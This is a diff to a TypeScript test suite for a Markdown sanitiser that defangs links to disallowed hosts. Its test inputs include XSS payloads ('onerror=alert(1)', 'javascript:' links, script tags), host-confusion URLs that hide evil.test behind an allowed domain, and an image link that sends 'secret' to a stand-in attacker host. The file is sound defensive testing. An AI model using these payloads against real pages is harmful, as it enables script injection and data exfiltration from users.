@@ -103,6 +103,11 @@ const STAGES: Record<string, { make: () => TextStage; parts: string[] }> = {
       ':',
       '|---|\n',
       '<https://docs.example.com/x>',
+      'https://docs.example.com',
+      '//evil.test/x',
+      "'x.evil.test",
+      '@evil.test/',
+      '!',
       'guide.md',
       '#top',
       '\t',
@@ -136,6 +141,15 @@ describe('the Markdown sink', () => {
     'markdown-it': (text) => markdownIt.render(text),
     marked: (text) => marked.parse(text, { async: false, gfm: true }),
   };
+  /** As a browser reads it (WHATWG URL): no host at all, or the allowed one with signs that a reader would leave out. */
+  const leadsNowhereElse = (address: string): boolean => {
+    try {
+      const { protocol, hostname } = new URL(address, 'https://page.good.test/');
+      return /^https?:$/.test(protocol) && allows(hostname.replace(/[)'"*_~,;!.]+$/, ''));
+    } catch {
+      return true;
+    }
+  };
   /** Tags that Markdown itself makes, with the addresses that are allowed. */
   const danger = (html: string): string | undefined => {
     for (const [tag] of html.matchAll(/<[a-z/!?][^>]*>?/gi)) {
@@ -149,6 +163,7 @@ describe('the Markdown sink', () => {
       const target = /^<(?:a|img)(?: (?:alt|title)="[^"]*")* (?:href|src)="([^"]*)"/.exec(tag)?.[1];
       if (target !== undefined && allowsDestination(target.replaceAll('&amp;', '&'), allows)) continue;
       if (target !== undefined && /^mailto:/.test(target)) continue;
+      if (target !== undefined && leadsNowhereElse(target.replaceAll('&amp;', '&'))) continue;
       return tag;
     }
     return undefined;
@@ -170,8 +185,17 @@ describe('the Markdown sink', () => {
       '<img src=x onerror=alert(1)>',
       '[a](http://evil.test "t")',
       '<b onclick=x>',
+      'https://docs.example.com!@evil.test/',
+      "https://docs.example.com'x.evil.test/",
+      '//evil.test/x',
     ]) {
-      expect(danger(markdownIt.render(alive) + alive)).toBeDefined();
+      expect(
+        danger(
+          Object.values(RENDERERS)
+            .map((render) => render(alive))
+            .join('') + alive,
+        ),
+      ).toBeDefined();
     }
   });
 
@@ -188,15 +212,47 @@ describe('the Markdown sink', () => {
     ['a link below the page', 'See [below](#usage) and [the other page](docs/other.md).\n'],
     ['a table', '| a | b |\n|---|---|\n| 1 | 2 |\n'],
     ['an allowed address', 'It is at https://docs.example.com/x?y=1.\n'],
+    [
+      'an allowed host',
+      'See (https://docs.example.com), **https://docs.example.com**: "https://docs.example.com!" or |https://docs.example.com|x|\n',
+    ],
+    ['an allowed host as its own link', '[https://docs.example.com](https://docs.example.com): that.\n'],
+    ['slashes', 'and/or, 1//2, file:///tmp/a, s3://bucket.name/key, // a remark. See //docs.example.com/x.\n'],
     ['words that start like an address', 'We want the whole thing; http is a protocol; www is not one; ftp neither.\n'],
   ])('leaves %s as it is, byte for byte', (_name, text) => {
     expect(through(text)).toBe(text);
   });
 
   test.each([
+    ['an address without a scheme', 'x //evil.test/a', 'x //evil[.]test/a'],
+    [
+      'an address behind an allowed one',
+      'https://docs.example.com!@evil.test/',
+      'https[:]//docs[.]example[.]com!@evil.test/',
+    ],
+    [
+      'a host below another one',
+      "https://docs.example.com'x.evil.test/",
+      "https[:]//docs[.]example[.]com'x.evil.test/",
+    ],
+    [
+      'a host that an escape makes another one',
+      'https://docs.example.com<x.evil.test/',
+      'https[:]//docs[.]example[.]com&lt;x.evil.test/',
+    ],
+    [
+      'one that goes on after a link',
+      'a](https://docs.example.com)x.evil.test/',
+      'a] (https[:]//docs[.]example[.]com)x.evil.test/',
+    ],
+    [
+      'one that goes on with a mark of byte order',
+      'https://docs.example.com\ufeffx.evil.test/',
+      'https[:]//docs[.]example[.]com\ufeffx.evil.test/',
+    ],
     ['a tag', '<script>x</script>', '&lt;script>x&lt;/script>'],
     ['an image elsewhere', '![x](https://evil.test/p?d=secret)', '![x] (https[:]//evil[.]test/p?d=secret)'],
-    ['a link elsewhere', '[x](//evil.test)', '[x] (//evil.test)'],
+    ['a link elsewhere', '[x](//evil.test)', '[x] (//evil[.]test)'],
     ['a script link', '[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
     ['a definition', '[x]: javascript:alert(1)', '[x] : javascript:alert(1)'],
     [
